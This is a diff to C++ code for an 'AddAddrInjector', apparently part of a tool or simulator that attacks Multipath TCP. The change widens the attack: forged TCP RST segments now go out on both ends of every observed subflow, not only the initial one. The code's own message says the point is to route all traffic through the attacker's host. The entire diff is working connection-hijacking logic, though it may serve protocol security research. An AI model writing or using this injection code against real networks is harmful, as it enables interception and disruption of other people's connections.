@@ -62,7 +62,7 @@ AddAddrInjector::SetKeys(const smptcp::JoinKeys& keys)
 std::optional<IpSegment>
 AddAddrInjector::Make(const WatchedFlow& flow, unsigned from)
 {
-    m_initial = &flow;
+    m_initial = m_initial ? m_initial : &flow;
     smptcp::WireAddress address;
     const auto& own = GetHost()->GetAddress();
     std::copy(own.begin() + 12, own.end(), address.octets.begin());
@@ -105,7 +105,7 @@ AddAddrInjector::OnHostSegment(const IpSegment& segment)
     bool up = *from == 1 && !segment.Tcp().Has(smptcp::TCP_SYN);
     if (up && !m_reset)
     {
-        ResetInitial();
+        ResetOthers();
     }
 }
 
@@ -122,14 +122,17 @@ AddAddrInjector::Accept(const IpSegment& syn)
 }
 
 void
-AddAddrInjector::ResetInitial()
+AddAddrInjector::ResetOthers()
 {
     m_reset = true;
-    for (unsigned end : {0u, 1u})
+    for (const auto& flow : Watch().Flows())
     {
-        IpSegment reset = smptcp::ForgeControl(*m_initial, end, OptionBytes());
-        reset.SetFlags(smptcp::TCP_RST);
-        SendFromHost("RST on the initial subflow, so that all goes by the attacker's host", reset);
+        for (unsigned end : {0u, 1u})
+        {
+            IpSegment reset = smptcp::ForgeControl(flow, end, OptionBytes());
+            reset.SetFlags(smptcp::TCP_RST);
+            SendFromHost("RST on a subflow it saw, so that all goes by the attacker's host", reset);
+        }
     }
 }
 
